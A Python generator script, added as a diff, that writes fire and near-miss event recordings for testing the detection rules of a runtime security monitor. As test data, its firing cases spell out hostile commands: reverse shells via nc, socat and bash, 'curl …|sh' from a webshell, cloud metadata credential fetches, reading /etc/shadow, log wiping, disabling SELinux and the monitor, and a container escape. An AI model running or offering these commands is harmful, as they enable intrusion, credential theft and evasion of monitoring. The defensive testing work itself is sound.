@@ -1,0 +1,424 @@
+#!/usr/bin/env python3
+# gen_recordings.py - writes the rule recordings in this directory (<rule>.fire.jsonl / <rule>.miss.jsonl).
+# Each file: a "# expect: <rule ids>" line (exactly the rules that must fire over the file; empty for a
+# near miss), then one event JSON object per line with the keys of docs/API.md. Run it after editing.
+import json, os, sys
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+T0 = [1764427000]
+
+def t():
+    T0[0] += 1
+    return "2026-11-29T14:%02d:%02d.000000Z" % ((T0[0] // 60) % 60, T0[0] % 60)
+
+SESS = "/user.slice/user-1000.slice/session-2.scope"
+POD = "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod1a2b.slice/cri-containerd-%s.scope"
+CID = "4f1e0c9a7b3d2e1f4f1e0c9a7b3d2e1f4f1e0c9a7b3d2e1f4f1e0c9a7b3d2e1f"
+
+def ev(type, pid, ppid, exe, comm=None, uid=1000, **kw):
+    e = {"kind": "event", "type": type, "time": t(), "pid": pid, "tid": pid, "ppid": ppid,
+         "uid": uid, "gid": uid, "auid": 1000 if uid else 4294967295,
+         "comm": comm or os.path.basename(exe)[:15], "exe": exe}
+    if "cgroup" not in kw:
+        e["cgroup"] = SESS
+    e.update(kw)
+    return e
+
+def exe(pid, ppid, path, args, uid=1000, comm=None, cwd="/home/u", filename=None, **kw):
+    return ev("exec", pid, ppid, path, comm=comm, uid=uid, args=args, cwd=cwd,
+              filename=filename or path, stdin_socket=kw.pop("stdin_socket", False),
+              stdout_socket=kw.pop("stdout_socket", False), **kw)
+
+def fork(pid, ppid, path, comm=None, uid=1000, **kw):
+    return ev("fork", pid, ppid, path, comm=comm, uid=uid, **kw)
+
+def conn(pid, ppid, path, addr, port, family="inet", uid=1000, ret=0, **kw):
+    return ev("connect", pid, ppid, path, uid=uid, family=family, dst_addr=addr, dst_port=port,
+              connect_ret=ret, **kw)
+
+def dup(pid, ppid, path, newfd, addr="127.0.0.1", port=4444, family="inet", oldfd=3, uid=1000):
+    e = ev("dup", pid, ppid, path, uid=uid, family=family, oldfd=oldfd, newfd=newfd)
+    if family in ("inet", "inet6"):
+        e["dst_addr"] = addr
+        e["dst_port"] = port
+    return e
+
+def peer(family="inet", addr="127.0.0.1", port=4444):
+    p = {"family": family, "type": "stream"}
+    if family in ("inet", "inet6"):
+        p["addr"] = addr
+        p["port"] = port
+    return p
+
+# a login: systemd -> sshd -> bash (uid 1000)
+BASE = [
+    exe(1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"], uid=0, cwd="/", cgroup="/init.scope"),
+    exe(500, 1, "/usr/sbin/sshd", ["sshd", "-D"], uid=0, cwd="/", cgroup="/system.slice/ssh.service"),
+    fork(1000, 500, "/usr/sbin/sshd", uid=0),
+    exe(1000, 500, "/usr/bin/bash", ["-bash"], comm="bash"),
+]
+
+def in_pod(e):
+    e["cgroup"] = POD % CID
+    e["container_id"] = CID
+    return e
+
+R = {}
+
+# ---------------------------------------------------------------- reverse_shell
+R["reverse_shell.fire"] = [
+    # bash -i >& /dev/tcp/127.0.0.1/4444 0>&1: bash connects, then dup2s the socket onto 1 and 0
+    fork(2000, 1000, "/usr/bin/bash"),
+    exe(2000, 1000, "/usr/bin/bash", ["bash", "-i"]),
+    conn(2000, 1000, "/usr/bin/bash", "127.0.0.1", 4444),
+    dup(2000, 1000, "/usr/bin/bash", 1), dup(2000, 1000, "/usr/bin/bash", 0),
+    # nc -e /bin/sh: nc with an exec option, then the shell it runs has the socket on stdin
+    fork(2100, 1000, "/usr/bin/bash"),
+    exe(2100, 1000, "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "127.0.0.1", "4444"], comm="nc"),
+    exe(2100, 1000, "/usr/bin/dash", ["/bin/sh"], comm="sh", filename="/bin/sh",
+        stdin_socket=True, stdout_socket=True, stdin_peer=peer(), stdout_peer=peer()),
+    # python -c 'import socket,os,pty; s=...; os.dup2(s.fileno(),0..2); pty.spawn("/bin/bash")'
+    fork(2200, 1000, "/usr/bin/bash"),
+    exe(2200, 1000, "/usr/bin/python3.11", ["python3", "-c", "import socket,os,pty;..."], comm="python3"),
+    conn(2200, 1000, "/usr/bin/python3.11", "::1", 9001, family="inet6"),
+    dup(2200, 1000, "/usr/bin/python3.11", 0, addr="::1", port=9001, family="inet6"),
+    fork(2201, 2200, "/usr/bin/python3.11"),
+    exe(2201, 2200, "/usr/bin/bash", ["/bin/bash"], filename="/bin/bash"),
+    # socat tcp:127.0.0.1:4444 exec:'bash -li',pty,stderr,setsid
+    fork(2300, 1000, "/usr/bin/bash"),
+    exe(2300, 1000, "/usr/bin/socat", ["socat", "tcp:127.0.0.1:4444", "exec:bash -li,pty,stderr,setsid"]),
+    fork(2301, 2300, "/usr/bin/socat"),
+    exe(2301, 2300, "/usr/bin/bash", ["bash", "-li"]),
+    # gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/4444"; ... }'
+    fork(2400, 1000, "/usr/bin/bash"),
+    exe(2400, 1000, "/usr/bin/gawk", ["gawk", "BEGIN {s=\"/inet/tcp/0/127.0.0.1/4444\"}"], comm="gawk"),
+    conn(2400, 1000, "/usr/bin/gawk", "127.0.0.1", 4444),
+    # any process to a C2 port off the host
+    fork(2500, 1000, "/usr/bin/bash"),
+    exe(2500, 1000, "/usr/bin/curl", ["curl", "http://203.0.113.7:4444/x"]),
+    conn(2500, 1000, "/usr/bin/curl", "203.0.113.7", 4444, ret=-115),
+    # busybox nc -e (dup2 of the socket in busybox itself)
+    fork(2600, 1000, "/usr/bin/bash"),
+    exe(2600, 1000, "/usr/bin/busybox", ["busybox", "nc", "127.0.0.1", "4444", "-e", "sh"]),
+]
+R["reverse_shell.miss"] = [
+    # ssh host 'ls': sshd runs the shell on a socketpair (unix), not an inet socket
+    fork(3000, 500, "/usr/sbin/sshd", uid=0),
+    exe(3000, 500, "/usr/bin/bash", ["bash", "-c", "ls"], stdin_socket=True, stdout_socket=True,
+        stdin_peer=peer("unix"), stdout_peer=peer("unix")),
+    # a dev server on a "C2" port on loopback, and ordinary https
+    exe(3100, 1000, "/usr/bin/curl", ["curl", "http://127.0.0.1:8081/"]),
+    conn(3100, 1000, "/usr/bin/curl", "127.0.0.1", 8081),
+    conn(3100, 1000, "/usr/bin/curl", "93.184.216.34", 443),
+    # python scripts connect out; bash talks to unix sockets
+    exe(3200, 1000, "/usr/bin/python3.11", ["python3", "fetch.py"], comm="python3"),
+    conn(3200, 1000, "/usr/bin/python3.11", "10.0.0.5", 443),
+    dup(3200, 1000, "/usr/bin/python3.11", 1, family="unix"),
+    conn(1000, 500, "/usr/bin/bash", "", 0, family="unix"),
+    # relays without an exec option; openssl enc -e is "encrypt"; telnet -e is the escape char
+    exe(3300, 1000, "/usr/bin/ncat", ["ncat", "127.0.0.1", "80"]),
+    exe(3400, 1000, "/usr/bin/openssl", ["openssl", "enc", "-e", "-aes-256-cbc", "-in", "f"]),
+    exe(3500, 1000, "/usr/bin/telnet.netkit", ["telnet", "-e", "^]", "10.0.0.1"], comm="telnet"),
+    # shells from an interactive session and from make
+    exe(3600, 1000, "/usr/bin/make", ["make", "-j2"]),
+    exe(3601, 3600, "/usr/bin/dash", ["/bin/sh", "-c", "cc -c a.c"], comm="sh"),
+]
+
+# ---------------------------------------------------------------- injection_attempt
+R["injection_attempt.fire"] = [
+    exe(4000, 1, "/usr/sbin/cron", ["cron"], uid=0, cgroup="/system.slice/cron.service"),
+    exe(5000, 1000, "/usr/bin/python3.11", ["python3", "inject.py", "4000"], comm="python3"),
+    ev("ptrace", 5000, 1000, "/usr/bin/python3.11", ptrace_request="PTRACE_ATTACH", target_pid=4000,
+       target_ppid=1),
+    ev("ptrace", 5000, 1000, "/usr/bin/python3.11", ptrace_request="PTRACE_POKETEXT", target_pid=4000,
+       target_ppid=1),
+    ev("mmap", 5000, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_WRITE", "PROT_EXEC"],
+       flags=["MAP_PRIVATE", "MAP_ANONYMOUS"], fd=-1, addr=140000000000, len=4096),
+    exe(5100, 1000, "/usr/bin/perl", ["perl", "x.pl"]),
+    ev("mprotect", 5100, 1000, "/usr/bin/perl", prot=["PROT_READ", "PROT_EXEC"], addr=140000000000,
+       len=4096, vma_anon=True, vma_write=True, vma_exec=False),
+    ev("process_vm_writev", 5000, 1000, "/usr/bin/python3.11", target_pid=4000, target_ppid=1),
+    ev("memfd_create", 5000, 1000, "/usr/bin/python3.11", memfd_name="", memfd_flags=["MFD_CLOEXEC"]),
+]
+R["injection_attempt.miss"] = [
+    # strace / gdb on their own child
+    exe(6000, 1000, "/usr/bin/strace", ["strace", "-f", "ls"]),
+    fork(6001, 6000, "/usr/bin/strace"),
+    ev("ptrace", 6001, 6000, "/usr/bin/strace", ptrace_request="PTRACE_TRACEME", target_pid=0),
+    ev("ptrace", 6000, 1000, "/usr/bin/strace", ptrace_request="PTRACE_SEIZE", target_pid=6001,
+       target_ppid=6000),
+    ev("ptrace", 6000, 1000, "/usr/bin/strace", ptrace_request="PTRACE_POKEUSER", target_pid=6001,
+       target_ppid=6000),
+    # reading another process is not injection
+    ev("ptrace", 6000, 1000, "/usr/bin/strace", ptrace_request="PTRACE_PEEKDATA", target_pid=4000,
+       target_ppid=1),
+    # JITs
+    exe(6100, 1000, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["java", "-jar", "app.jar"]),
+    ev("mmap", 6100, 1000, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
+       prot=["PROT_READ", "PROT_WRITE", "PROT_EXEC"], flags=["MAP_PRIVATE", "MAP_ANONYMOUS"], fd=-1),
+    exe(6200, 1000, "/usr/bin/node", ["node", "server.js"]),
+    ev("mprotect", 6200, 1000, "/usr/bin/node", prot=["PROT_READ", "PROT_EXEC"], vma_anon=True,
+       vma_write=True, vma_exec=False),
+    # ld.so: file-backed r-x; malloc: anonymous rw-; RELRO-like mprotect of a file mapping
+    exe(6300, 1000, "/usr/bin/python3.11", ["python3", "app.py"], comm="python3"),
+    ev("mmap", 6300, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_EXEC"],
+       flags=["MAP_PRIVATE", "MAP_DENYWRITE"], fd=3),
+    ev("mmap", 6300, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_WRITE"],
+       flags=["MAP_PRIVATE", "MAP_ANONYMOUS"], fd=-1),
+    ev("mprotect", 6300, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_EXEC"], vma_anon=False,
+       vma_write=False, vma_exec=False),
+    # memfds: sealed (Wayland, glib), no-exec sealed, systemd's own
+    ev("memfd_create", 6300, 1000, "/usr/bin/python3.11", memfd_name="buf",
+       memfd_flags=["MFD_CLOEXEC", "MFD_NOEXEC_SEAL"]),
+    exe(6400, 1, "/usr/lib/systemd/systemd-journald", ["/lib/systemd/systemd-journald"], uid=0,
+        cgroup="/system.slice/systemd-journald.service"),
+    ev("memfd_create", 6400, 1, "/usr/lib/systemd/systemd-journald", uid=0, memfd_name="journal-data",
+       memfd_flags=["MFD_CLOEXEC"], cgroup="/system.slice/systemd-journald.service"),
+    ev("memfd_create", 6300, 1000, "/usr/bin/python3.11", memfd_name="wl_shm",
+       memfd_flags=["MFD_CLOEXEC", "MFD_ALLOW_SEALING"]),
+    # process_vm_writev to itself
+    ev("process_vm_writev", 6300, 1000, "/usr/bin/python3.11", target_pid=6300, target_ppid=1000),
+]
+
+# ---------------------------------------------------------------- suspicious_exec
+R["suspicious_exec.fire"] = [
+    exe(7000, 1000, "/tmp/payload", ["./payload"], filename="./payload", cwd="/tmp"),
+    exe(7001, 1000, "/dev/shm/kworker", ["[kworker/0:1]"], comm="kworker/0:1"),
+    # a symlink in /tmp to a system binary: the path as executed is in /tmp
+    exe(7002, 1000, "/usr/bin/ls", ["ls"], filename="/tmp/ls"),
+    # fileless: execveat on a memfd
+    exe(7003, 1000, "/memfd:x (deleted)", ["x"], filename="/dev/fd/3", exe_memfd=True),
+    # deleted after start
+    exe(7004, 1000, "/home/u/tool", ["tool"], exe_deleted=True),
+    # orphaned non-root process in a login session
+    exe(7005, 1, "/usr/bin/sleep", ["sleep", "1000"]),
+]
+R["suspicious_exec.miss"] = [
+    # a build under /tmp runs what it compiled
+    exe(8000, 1000, "/usr/bin/make", ["make", "check"], cwd="/tmp/rtmon-ci/build"),
+    fork(8001, 8000, "/usr/bin/make"),
+    exe(8001, 8000, "/tmp/rtmon-ci/build/tests/unit/test_x", ["./tests/unit/test_x"],
+        filename="./tests/unit/test_x", cwd="/tmp/rtmon-ci/build"),
+    exe(8100, 1000, "/usr/bin/dash", ["/bin/sh", "./configure"], comm="configure", cwd="/tmp/b"),
+    fork(8101, 8100, "/usr/bin/dash", comm="configure"),
+    exe(8101, 8100, "/tmp/b/conftest", ["./conftest"], filename="./conftest", cwd="/tmp/b"),
+    # system binaries run from /tmp as the cwd; a script in /tmp through its interpreter
+    exe(8200, 1000, "/usr/bin/ls", ["ls"], cwd="/tmp"),
+    exe(8201, 1000, "/usr/bin/python3.11", ["python3", "/tmp/x/script.py"], comm="python3",
+        filename="/usr/bin/python3"),
+    # orphans that are root or services
+    exe(8300, 1, "/usr/sbin/dhclient", ["dhclient"], uid=0, cgroup="/system.slice/ifup@eth0.service"),
+    exe(8301, 1, "/usr/sbin/nginx", ["nginx"], uid=33, cgroup="/system.slice/nginx.service"),
+    exe(8302, 1, "/usr/bin/sleep", ["sleep", "5"], uid=0),
+    # runc re-executing its sealed memfd copy
+    exe(8400, 8399, "/memfd:runc_cloned:/proc/self/exe (deleted)", ["runc", "init"], uid=0,
+        comm="runc:[2:INIT]", filename="/proc/self/exe", exe_memfd=True),
+]
+
+# ---------------------------------------------------------------- webshell_spawn
+R["webshell_spawn.fire"] = [
+    exe(9000, 1, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], uid=33, cgroup="/system.slice/php8.2-fpm.service"),
+    fork(9001, 9000, "/usr/sbin/php-fpm8.2", uid=33, cgroup="/system.slice/php8.2-fpm.service"),
+    exe(9001, 9000, "/usr/bin/dash", ["sh", "-c", "id;uname -a"], uid=33, comm="sh", filename="/bin/sh",
+        cgroup="/system.slice/php8.2-fpm.service"),
+    exe(9100, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=33,
+        cgroup="/system.slice/apache2.service"),
+    fork(9101, 9100, "/usr/sbin/apache2", uid=33, cgroup="/system.slice/apache2.service"),
+    exe(9101, 9100, "/usr/bin/whoami", ["whoami"], uid=33, cgroup="/system.slice/apache2.service"),
+    exe(9200, 1, "/usr/lib/postgresql/15/bin/postgres", ["postgres"], uid=112,
+        cgroup="/system.slice/postgresql.service"),
+    fork(9201, 9200, "/usr/lib/postgresql/15/bin/postgres", uid=112, cgroup="/system.slice/postgresql.service"),
+    exe(9201, 9200, "/usr/bin/dash", ["sh", "-c", "curl http://203.0.113.9/x|sh"], uid=112, comm="sh",
+        cgroup="/system.slice/postgresql.service"),
+]
+R["webshell_spawn.miss"] = [
+    exe(9300, 1, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], uid=33, cgroup="/system.slice/php8.2-fpm.service"),
+    fork(9301, 9300, "/usr/sbin/php-fpm8.2", uid=33, cgroup="/system.slice/php8.2-fpm.service"),
+    exe(9301, 9300, "/usr/bin/dash", ["sh", "-c", "/usr/sbin/sendmail -t -i"], uid=33, comm="sh",
+        cgroup="/system.slice/php8.2-fpm.service"),
+    exe(9400, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0,
+        cgroup="/system.slice/apache2.service"),
+    fork(9401, 9400, "/usr/sbin/apache2", uid=0, cgroup="/system.slice/apache2.service"),
+    exe(9401, 9400, "/usr/bin/dash", ["/bin/sh", "-c", "exec /usr/bin/rotatelogs /var/log/apache2/a.log 86400"],
+        uid=0, comm="sh", cgroup="/system.slice/apache2.service"),
+    # nginx re-executing itself (binary upgrade), a user's shell running id
+    exe(9500, 1, "/usr/sbin/nginx", ["nginx"], uid=0, cgroup="/system.slice/nginx.service"),
+    exe(9501, 9500, "/usr/sbin/nginx", ["nginx"], uid=0, cgroup="/system.slice/nginx.service"),
+    exe(9600, 1000, "/usr/bin/id", ["id"]),
+]
+
+# ---------------------------------------------------------------- cloud_metadata_access
+R["cloud_metadata_access.fire"] = [
+    exe(9700, 1000, "/usr/bin/curl", ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"]),
+    conn(9700, 1000, "/usr/bin/curl", "169.254.169.254", 80),
+    in_pod(exe(9710, 9709, "/usr/bin/python3.11", ["python3", "steal.py"], uid=0, comm="python3")),
+    in_pod(conn(9710, 9709, "/usr/bin/python3.11", "169.254.169.254", 80, uid=0)),
+]
+R["cloud_metadata_access.miss"] = [
+    exe(9800, 1, "/usr/bin/amazon-ssm-agent", ["amazon-ssm-agent"], uid=0, cgroup="/system.slice/amazon-ssm-agent.service"),
+    conn(9800, 1, "/usr/bin/amazon-ssm-agent", "169.254.169.254", 80, uid=0,
+         cgroup="/system.slice/amazon-ssm-agent.service"),
+    exe(9810, 1, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cloud-init", "init"], uid=0,
+        comm="cloud-init", cgroup="/system.slice/cloud-init.service"),
+    conn(9810, 1, "/usr/bin/python3.11", "169.254.169.254", 80, uid=0, comm="cloud-init",
+         cgroup="/system.slice/cloud-init.service"),
+    exe(9820, 1000, "/usr/bin/curl", ["curl", "http://169.254.169.253/"]),
+    conn(9820, 1000, "/usr/bin/curl", "169.254.169.253", 53),
+]
+
+# ---------------------------------------------------------------- crypto_miner
+R["crypto_miner.fire"] = [
+    exe(10000, 1000, "/home/u/xmrig-6.21.0/xmrig", ["./xmrig", "-c", "config.json"], cwd="/home/u/xmrig-6.21.0"),
+    # renamed, but the pool URL gives it away
+    exe(10001, 1000, "/usr/local/bin/systemd-helper", ["systemd-helper", "-o", "stratum+tcp://pool.example:3333",
+                                                       "-u", "4A..", "--donate-level=1"]),
+]
+R["crypto_miner.miss"] = [
+    exe(10100, 1000, "/usr/bin/git", ["git", "clone", "https://github.com/xmrig/xmrig"]),
+    exe(10101, 1000, "/usr/bin/curl", ["curl", "https://pool.example/stats"]),
+    exe(10102, 1000, "/usr/bin/python3.11", ["python3", "mining_report.py"], comm="python3"),
+]
+
+# ---------------------------------------------------------------- container_escape
+R["container_escape.fire"] = [
+    in_pod(exe(10200, 10199, "/usr/bin/nsenter", ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"], uid=0)),
+    in_pod(exe(10201, 10199, "/usr/bin/mount", ["mount", "/dev/sda1", "/mnt"], uid=0)),
+    in_pod(exe(10202, 10199, "/usr/bin/dash", ["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"], uid=0,
+               comm="sh")),
+]
+R["container_escape.miss"] = [
+    # an admin on the host
+    exe(10300, 1000, "/usr/bin/nsenter", ["nsenter", "-t", "4242", "-n", "ip", "a"], uid=0),
+    # ordinary container work
+    in_pod(exe(10301, 10199, "/usr/bin/mount", ["mount", "-t", "tmpfs", "tmpfs", "/scratch"], uid=0)),
+    in_pod(exe(10302, 10199, "/usr/bin/ls", ["ls", "/proc/1"], uid=0)),
+]
+
+# ---------------------------------------------------------------- network_scanner
+R["network_scanner.fire"] = [
+    exe(10400, 1000, "/usr/bin/nmap", ["nmap", "-sS", "10.0.0.0/24"], uid=0),
+    in_pod(exe(10401, 10199, "/usr/local/bin/masscan", ["masscan", "-p1-65535", "10.0.0.0/8"], uid=0)),
+]
+R["network_scanner.miss"] = [
+    exe(10500, 1000, "/usr/bin/ping", ["ping", "-c1", "10.0.0.1"]),
+    exe(10501, 1000, "/usr/bin/ss", ["ss", "-tlnp"]),
+]
+
+# ---------------------------------------------------------------- log_tampering
+R["log_tampering.fire"] = [
+    exe(10600, 1000, "/usr/bin/shred", ["shred", "-u", "/var/log/auth.log"], uid=0),
+    exe(10601, 1000, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"], uid=0),
+    exe(10602, 1000, "/usr/bin/journalctl", ["journalctl", "--vacuum-time=1s"], uid=0),
+    exe(10603, 1000, "/usr/bin/truncate", ["truncate", "-s", "0", "/var/log/syslog"], uid=0),
+    exe(10604, 1000, "/usr/sbin/auditctl", ["auditctl", "-D"], uid=0),
+    exe(10605, 1000, "/usr/bin/rm", ["rm", "-f", "/var/log/wtmp"], uid=0),
+]
+R["log_tampering.miss"] = [
+    exe(10700, 1, "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"], uid=0,
+        cgroup="/system.slice/logrotate.service"),
+    exe(10701, 1000, "/usr/bin/rm", ["rm", "/tmp/app.log"]),
+    exe(10702, 1000, "/usr/bin/journalctl", ["journalctl", "-u", "ssh", "--since", "today"]),
+    exe(10703, 1000, "/usr/bin/truncate", ["truncate", "-s", "0", "/tmp/x"]),
+    exe(10704, 1000, "/usr/sbin/auditctl", ["auditctl", "-e", "1"], uid=0),
+    exe(10705, 1000, "/usr/bin/ln", ["ln", "-s", "/dev/null", "/tmp/devnull"]),
+]
+
+# ---------------------------------------------------------------- defense_evasion
+R["defense_evasion.fire"] = [
+    exe(10800, 1000, "/usr/sbin/setenforce", ["setenforce", "0"], uid=0),
+    exe(10801, 1000, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"], uid=0),
+    exe(10802, 1000, "/usr/sbin/iptables-nft", ["iptables", "-F"], uid=0, comm="iptables"),
+    exe(10803, 1000, "/usr/sbin/ufw", ["ufw", "disable"], uid=0),
+    exe(10804, 1000, "/usr/bin/pkill", ["pkill", "-9", "rtmon"], uid=0),
+    exe(10805, 1000, "/usr/bin/systemctl", ["systemctl", "mask", "--now", "rtmon.service"], uid=0),
+]
+R["defense_evasion.miss"] = [
+    exe(10900, 1000, "/usr/bin/systemctl", ["systemctl", "restart", "nginx"], uid=0),
+    exe(10901, 1000, "/usr/sbin/setenforce", ["setenforce", "1"], uid=0),
+    exe(10902, 1, "/usr/bin/dockerd", ["dockerd"], uid=0, cgroup="/system.slice/docker.service"),
+    exe(10903, 10902, "/usr/sbin/iptables-nft", ["iptables", "--wait", "-t", "nat", "-F", "DOCKER"], uid=0,
+        comm="iptables", cgroup="/system.slice/docker.service"),
+    # a package upgrade stops the service it replaces
+    exe(10904, 1000, "/usr/bin/dpkg", ["dpkg", "-i", "auditd.deb"], uid=0),
+    exe(10905, 10904, "/usr/bin/systemctl", ["systemctl", "stop", "auditd.service"], uid=0),
+]
+
+# ---------------------------------------------------------------- credential_access
+R["credential_access.fire"] = [
+    exe(11000, 1000, "/usr/bin/cat", ["cat", "/etc/shadow"], uid=0),
+    exe(11001, 1000, "/usr/bin/cp", ["cp", "/root/.ssh/id_rsa", "/tmp/k"], uid=0),
+    exe(11002, 1000, "/usr/sbin/john", ["john", "hashes.txt"]),
+]
+R["credential_access.miss"] = [
+    exe(11100, 1000, "/usr/bin/cat", ["cat", "/etc/passwd"]),
+    exe(11101, 1000, "/usr/bin/passwd", ["passwd"]),
+    exe(11102, 1000, "/usr/bin/cat", ["cat", "/home/u/.ssh/id_rsa.pub"]),
+    exe(11103, 1000, "/usr/bin/tar", ["tar", "czf", "/backup/etc.tgz", "/etc"], uid=0),
+]
+
+# ---------------------------------------------------------------- k8s_api_from_container
+R["k8s_api_from_container.fire"] = [
+    in_pod(exe(11200, 10199, "/usr/bin/curl", ["curl", "-k", "https://10.0.0.10:10250/pods"], uid=0)),
+    in_pod(conn(11200, 10199, "/usr/bin/curl", "10.0.0.10", 10250, uid=0)),
+]
+R["k8s_api_from_container.miss"] = [
+    in_pod(exe(11300, 10199, "/usr/bin/curl", ["curl", "https://kubernetes.default"], uid=0)),
+    in_pod(conn(11300, 10199, "/usr/bin/curl", "10.96.0.1", 443, uid=0)),
+    exe(11301, 1000, "/usr/bin/curl", ["curl", "-k", "https://10.0.0.10:10250/healthz"]),
+    conn(11301, 1000, "/usr/bin/curl", "10.0.0.10", 10250),
+    in_pod(exe(11302, 10199, "/usr/local/bin/kube-apiserver", ["kube-apiserver"], uid=0)),
+    in_pod(conn(11302, 10199, "/usr/local/bin/kube-apiserver", "127.0.0.1", 2379, uid=0)),
+]
+
+# ---------------------------------------------------------------- hidden_exec
+R["hidden_exec.fire"] = [
+    exe(11400, 1000, "/home/u/.config/.sysd/updater", ["updater"]),
+    exe(11401, 1000, "/var/lib/.x/bot", ["bot"], uid=0),
+]
+R["hidden_exec.miss"] = [
+    exe(11500, 1000, "/home/u/.local/bin/black", ["black", "."]),
+    exe(11501, 1000, "/home/u/.cargo/bin/rg", ["rg", "foo"]),
+    exe(11502, 1000, "/root/.vscode-server/bin/abc123/node", ["node"], uid=0),
+]
+
+# ---------------------------------------------------------------- kernel_module_load
+R["kernel_module_load.fire"] = [
+    exe(11600, 1000, "/usr/sbin/insmod", ["insmod", "/tmp/diamorphine.ko"], uid=0, comm="insmod"),
+]
+R["kernel_module_load.miss"] = [
+    exe(11700, 1000, "/usr/sbin/modprobe", ["modprobe", "nf_conntrack"], uid=0),
+    exe(11701, 1000, "/usr/sbin/insmod", ["insmod", "/lib/modules/6.1.0/extra/foo.ko"], uid=0),
+]
+
+# ---------------------------------------------------------------- privilege_escalation_shell
+R["privilege_escalation_shell.fire"] = [
+    # PwnKit: pkexec, run by the user, ends up executing a root shell itself
+    fork(11800, 1000, "/usr/bin/bash"),
+    exe(11800, 1000, "/usr/bin/pkexec", ["pkexec"]),
+    exe(11800, 1000, "/usr/bin/dash", ["sh"], uid=0, comm="sh"),
+]
+R["privilege_escalation_shell.miss"] = [
+    fork(11900, 1000, "/usr/bin/bash"),
+    exe(11900, 1000, "/usr/bin/sudo", ["sudo", "-i"]),
+    fork(11901, 11900, "/usr/bin/sudo", uid=0),
+    exe(11901, 11900, "/usr/bin/bash", ["-bash"], uid=0, comm="bash"),
+    fork(11910, 1000, "/usr/bin/bash"),
+    exe(11910, 1000, "/usr/bin/su", ["su", "-"]),
+    fork(11911, 11910, "/usr/bin/su"),
+    exe(11911, 11910, "/usr/bin/bash", ["-bash"], uid=0, comm="bash"),
+    # root's own shells
+    fork(11920, 500, "/usr/sbin/sshd", uid=0),
+    exe(11920, 500, "/usr/bin/bash", ["-bash"], uid=0, comm="bash"),
+]
+
+def main():
+    for name, events in R.items():
+        rule, kind = name.rsplit(".", 1)
+        with open(os.path.join(HERE, name + ".jsonl"), "w") as f:
+            f.write("# %s recording for rule %s (generated by gen_recordings.py)\n" %
+                    ("firing" if kind == "fire" else "near-miss", rule))
+            f.write("# expect: %s\n" % (rule if kind == "fire" else ""))
+            for e in BASE + events:
+                f.write(json.dumps(e, separators=(",", ":")) + "\n")
+
+main()
